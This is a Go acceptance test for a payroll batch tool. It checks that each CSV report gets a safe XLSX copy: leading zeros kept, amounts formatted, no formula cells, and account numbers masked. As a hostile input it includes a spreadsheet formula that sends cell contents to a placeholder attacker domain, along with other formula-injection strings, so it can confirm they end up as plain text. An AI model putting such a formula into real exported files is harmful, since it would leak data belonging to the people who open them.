package jobs

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/batchd/batchd/internal/clocktest"
	"github.com/batchd/batchd/internal/ingest"
	"github.com/batchd/batchd/internal/payment"
	"github.com/batchd/batchd/internal/reconcile"
	"github.com/batchd/batchd/internal/report"
	"github.com/batchd/batchd/internal/report/reporttest"
	"github.com/batchd/batchd/internal/submit"
	"github.com/batchd/batchd/internal/testsshd"
)

// tableOf is the layout of a report, by its file name.
func tableOf(name string) (report.Table, bool) {
	switch {
	case strings.HasSuffix(name, ".rejects.xlsx"):
		return ingest.RejectsTable, true
	case strings.HasSuffix(name, ".results.xlsx"):
		return submit.ResultsTable, true
	case strings.HasSuffix(name, ".archive.xlsx"):
		return ArchiveTable, true
	case strings.HasPrefix(name, "status-"):
		return reconcile.StatusTable, true
	case strings.HasPrefix(name, "settlement-"):
		return reconcile.SettlementTable, true
	case strings.HasPrefix(name, "exceptions-"):
		return reconcile.ExceptionsTable, true
	}
	return report.Table{}, false
}

// TestEveryReportInXLSX is issue 11's acceptance test over a real sshd,
// with the default report.formats [csv, xlsx]: ingest (a rejects report),
// submit (results), reconcile (status, settlement, exceptions) and prune
// (archive) each put an XLSX copy beside the CSV, locally and in the
// outbox. Every workbook is opened and every cell checked
// (reporttest.Check): identifiers are text with their leading zeros,
// amounts numbers in #,##0.00, dates date cells, the header frozen and
// filtered, no cell anywhere a formula, and each cell what the CSV says.
// The hostile label and memo are plain strings.
//
// It runs on each pinned date of clocktest.Dates(), over one sshd: dates
// become date cells, and a run at 23:59 on New Year's Eve or over a
// holiday must give the same workbooks.
func TestEveryReportInXLSX(t *testing.T) {
	sshd := testsshd.Start(t)
	for _, d := range clocktest.Dates() {
		t.Run(d.Name, func(t *testing.T) { everyReportInXLSX(t, newCycleAt(t, sshd, d.Name, d.At)) })
	}
}

func everyReportInXLSX(t *testing.T, c *cycle) {
	if f := ReportFormats(c.env.Cfg); len(f) != 2 || f[0] != report.CSV || f[1] != report.XLSX {
		t.Fatalf("default report.formats %v", f)
	}
	const hostile = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	head := "number,amount,memo,name,email,bank_routing,bank_account,label,zip\n"
	good := head +
		"0000070001,1234.56,+1,@Payee One,p@example.com,999900001,1111000016," + csvQuote(hostile) + ",02134\n" +
		"0000070002,0.29,-2,Payee Two,p@example.com,999900001,1111000016,plain,00501\n" +
		"0000070003,1000000.00,memo,=1+1,p@example.com,999900001,1111000016,11/12,02134\n"
	bad := head +
		"0000080001,12.3.4,+1,Bad Amount,p@example.com,999900001,1111000016," + csvQuote(hostile) + ",02134\n" +
		"0000080002,5.00,ok,Fine,p@example.com,999900001,1111000016,x,02134\n"
	c.drop("0001-payroll.csv", good)
	c.drop("0002-bad.csv", bad)
	ctx := context.Background()
	out, err := c.env.Ingest(ctx)
	if err != nil || len(out) != 2 {
		t.Fatalf("ingest: %+v %v", out, err)
	}
	if sum, delivered, err := c.env.Submit(ctx); err != nil || sum.Created != 3 || len(delivered) != 1 ||
		delivered[0] != "0001-payroll.csv.results.csv, 0001-payroll.csv.results.xlsx" {
		t.Fatalf("submit: %+v %q %v", sum, delivered, err)
	}
	var ids []string
	bs, _ := c.env.DB.Batches()
	for _, b := range bs {
		c.env.DB.Rows(b.ID, func(r *payment.Row) (bool, error) {
			if r.CheckID != "" {
				ids = append(ids, r.CheckID)
			}
			return true, nil
		})
	}
	c.post("/_sandbox/deposit", map[string]any{"check_ids": ids})
	c.clk.Advance(48 * time.Hour) // the sandbox and batchd both
	if _, err := c.env.Reconcile(ctx, nil); err != nil {
		t.Fatal(err)
	}
	// Prune as if a year had passed: the deposited batch and the rejected
	// one go to archive reports.
	later := c.env.Now().AddDate(1, 0, 0)
	res, err := Prune(ctx, c.env.DB, c.env.Cfg, nil, later, later)
	if err != nil || len(res.Summary.Pruned) != 2 || len(res.Archives) != 2 || !strings.HasSuffix(res.Archives[0], ".archive.csv") {
		t.Fatalf("prune: %+v %v", res, err)
	}

	// Every XLSX, in the outbox and locally, has its CSV beside it and
	// passes the checks; each kind of report is there.
	seen := map[string]int{}
	check := func(dir string) {
		t.Helper()
		err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() || filepath.Ext(p) != ".xlsx" {
				return err
			}
			table, ok := tableOf(d.Name())
			if !ok {
				t.Errorf("unknown report %s", p)
				return nil
			}
			if _, err := os.Stat(report.PathAs(p, report.CSV)); err != nil {
				t.Errorf("%s has no CSV beside it: %v", p, err)
			}
			s := reporttest.Check(t, p, table)
			seen[table.Sheet]++
			for _, row := range s.Raw {
				for _, cell := range row {
					if strings.Contains(cell, "1111000016") {
						t.Errorf("%s holds a full account number: %q", p, cell)
					}
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	check(c.path("outbox"))
	check(c.env.ReportsDir())
	for kind, n := range map[string]int{"rejects": 1, "results": 1, "status": 1, "settlement": 1, "exceptions": 1, "archive": 2} {
		if seen[kind] != 2*n { // the outbox copy and the local one
			t.Errorf("%d %s workbooks, want 2 (seen %v)", seen[kind], kind, seen)
		}
	}

	// Leading zeros, hostile text and amounts, cell by cell.
	outbox := func(name string) string { return filepath.Join(c.path("outbox"), name) }
	res1 := reporttest.Check(t, outbox("0001-payroll.csv.results.xlsx"), submit.ResultsTable)
	first := res1.Shown[1]
	if first[res1.Col(t, "number")] != "0000070001" || first[res1.Col(t, "amount")] != "1,234.56" ||
		first[res1.Col(t, "name")] != "@Payee One" || res1.Shown[3][res1.Col(t, "name")] != "=1+1" ||
		res1.Shown[3][res1.Col(t, "amount")] != "1,000,000.00" || res1.Raw[2][res1.Col(t, "amount")] != "0.29" {
		t.Errorf("results rows %q", res1.Shown)
	}
	rej := reporttest.Check(t, outbox("0002-bad.csv.rejects.xlsx"), ingest.RejectsTable)
	if len(rej.Shown) < 2 || rej.Shown[1][rej.Col(t, "line")] != "2" || rej.Shown[1][rej.Col(t, "column")] != "amount" ||
		rej.Shown[1][rej.Col(t, "value")] != "12.3.4" {
		t.Errorf("rejects rows %q", rej.Shown)
	}
	arch, _ := filepath.Glob(outbox("0001-payroll.csv.*.archive.xlsx"))
	if len(arch) != 1 || filepath.Base(arch[0]) != fmt.Sprintf("0001-payroll.csv.batch-%d.archive.xlsx", res.Summary.Pruned[0].Batch.ID) {
		t.Fatalf("archive in the outbox: %v", arch)
	}
	a := reporttest.Check(t, arch[0], ArchiveTable)
	if len(a.Shown) != 4 {
		t.Fatalf("archive rows %q", a.Shown)
	}
	labels := map[string]bool{}
	for _, r := range a.Shown[1:] {
		labels[r[a.Col(t, "label")]] = true
		if r[a.Col(t, "sent")] == "" || r[a.Col(t, "status")] != "deposited" {
			t.Errorf("archive row %q", r)
		}
	}
	if !labels[hostile] || !labels["11/12"] {
		t.Errorf("archive labels %v", labels)
	}
	st, _ := filepath.Glob(outbox("status-*.xlsx"))
	if len(st) != 1 {
		t.Fatalf("status workbooks %v", st)
	}
	status := reporttest.Check(t, st[0], reconcile.StatusTable)
	for _, r := range status.Shown[1:] {
		if r[status.Col(t, "deposited_on")] == "" || r[status.Col(t, "created")] == "" {
			t.Errorf("status row without dates %q", r)
		}
	}
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
